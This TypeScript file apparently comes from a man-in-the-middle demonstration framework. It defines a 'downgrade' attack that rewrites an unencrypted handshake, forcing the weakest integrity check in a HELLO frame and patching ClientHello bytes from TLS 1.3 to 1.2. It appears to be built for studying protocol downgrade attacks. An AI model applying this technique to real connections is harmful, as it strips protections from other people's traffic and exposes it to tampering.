import { forward, forwardAs, forwardFrame, type Attack, type RecordPiece, type Move } from '../attack.js';
import { WEAKEST_INTEGRITY } from '../../protocol/integrity.js';

/**
 * Changes what the client asks for while the handshake is still unencrypted. It changes the integrity check in HELLO to
 * the weakest one, and TLS 1.3 in the ClientHello to 1.2. It works if the server accepts whatever it is asked for, and
 * if nobody later compares what the client sent with what the server received.
 */
export const downgrade: Attack = {
  name: 'downgrade',
  summary: 'asks for a weaker check than the client did',
  goal: 'weaken',
  needs: 'a handshake that asks for a check, and not for the weakest one',
  toSee: 'Chat in encrypted or tls mode. It acts before anyone says anything.',
  start: () => (piece) => {
    if (piece.kind === 'frame' && piece.frame.kind === 'HELLO' && piece.frame.integrity !== WEAKEST_INTEGRITY) {
      return [forwardFrame(piece, { ...piece.frame, integrity: WEAKEST_INTEGRITY })];
    }
    return [piece.kind === 'record' && piece.from === 'client' ? withOlderVersion(piece) : forward(piece)];
  },
};

/** RFC 8446, section 4.2.1: the extension supported_versions, 43, with a list of one version, 0x0304 for TLS 1.3. */
const ONLY_1_3 = Buffer.from('002b0003020304', 'hex');
const ONLY_1_2 = Buffer.from('002b0003020303', 'hex');

function withOlderVersion(piece: RecordPiece): Move {
  const at = piece.message === null ? piece.bytes.indexOf(ONLY_1_3) : -1;
  if (at === -1) return forward(piece);
  return forwardAs(
    piece,
    Buffer.concat([piece.bytes.subarray(0, at), ONLY_1_2, piece.bytes.subarray(at + ONLY_1_3.length)]),
  );
}
